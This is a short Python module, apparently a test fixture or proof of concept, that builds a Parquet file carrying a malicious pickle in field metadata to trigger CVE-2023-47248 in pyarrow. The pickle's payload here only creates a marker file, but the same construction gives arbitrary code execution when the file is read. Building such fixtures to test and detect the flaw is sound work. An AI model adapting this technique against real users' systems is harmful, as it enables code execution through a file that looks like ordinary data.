"""A Parquet file whose schema holds a pickle, which Arrow below 14.0.1 runs (CVE-2023-47248)."""

import pickle
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


class _Creates:
    """Becomes a pickle that creates a file while it is read."""

    def __init__(self, path: Path) -> None:
        self._path = str(path)

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (self._path, "w")


def write(path: Path, trace: Path, table: pa.Table | None = None) -> None:
    """Writes the file.

    Args:
      path: of the file.
      trace: file that the pickle creates where it is run.
      table: its other columns; the pickle belongs to an added one.
    """
    table = table if table is not None else pa.table({"a": [1]})
    # The types' names and contents lie in metadata of the fields.
    field = pa.field(
        "pickled",
        pa.int64(),
        metadata={
            b"ARROW:extension:name": b"arrow.py_extension_type",
            b"ARROW:extension:metadata": pickle.dumps(_Creates(trace)),
        },
    )
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(table.append_column(field, pa.array([0] * len(table))), path)
